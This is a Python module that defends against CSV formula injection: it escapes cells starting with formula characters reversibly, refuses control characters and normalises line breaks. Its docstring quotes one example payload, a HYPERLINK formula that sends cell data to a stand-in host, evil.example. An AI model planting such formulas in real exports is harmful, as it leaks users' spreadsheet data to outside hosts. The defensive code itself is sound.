"""Single CSV cells: control characters refused on the way in, spreadsheet formulas
neutralised on the way out (and undone on the way back in).

A cell that starts with `= + - @`, a tab or a carriage return is a formula to Excel and
LibreOffice (OWASP, "CSV injection"): `=HYPERLINK("http://evil.example/?"&B2)` sends
the sheet's data away when the office opens an export. Such a cell is written with a
single quote before it. So that the escaping can be undone exactly, a cell that already
starts with a quote gets one more: `'x` is written `''x`, and reading takes exactly one
quote off a cell whose next character is one of these.
"""

from __future__ import annotations

from inspector.domain.controls import control_names

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"
_ESCAPED_STARTS = (*FORMULA_STARTS, _QUOTE)

#: columns of free text where a line break (and a tab) is part of the value
MULTILINE_COLUMNS = frozenset({"note", "reason", "purpose"})


def escape_formula(value: str) -> str:
    """The cell as written to a CSV file: never a formula, reversible by `unescape_formula`."""
    return _QUOTE + value if value.startswith(_ESCAPED_STARTS) else value


def one_line_break(value: str) -> str:
    """Line breaks as "\n": csv quotes a cell holding a lone "\r" only when the rows end
    in "\r\n", so such a cell would split its row in a file whose rows end in "\n"."""
    return value.replace("\r\n", "\n").replace("\r", "\n")


def unescape_formula(value: str) -> str:
    """The value `escape_formula` was given, for a cell it wrote; any other cell unchanged."""
    if value.startswith(_QUOTE) and value[1:].startswith(_ESCAPED_STARTS):
        return value[1:]
    return value


def control_characters(value: str, *, multiline: bool) -> list[str]:
    """The control characters in `value` (the one definition: `domain.controls`, bidi
    overrides and zero-width characters included) as `U+001B`-style names; a line break
    or tab is allowed where the column holds free text."""
    return control_names(value, "\t\n\r" if multiline else "")
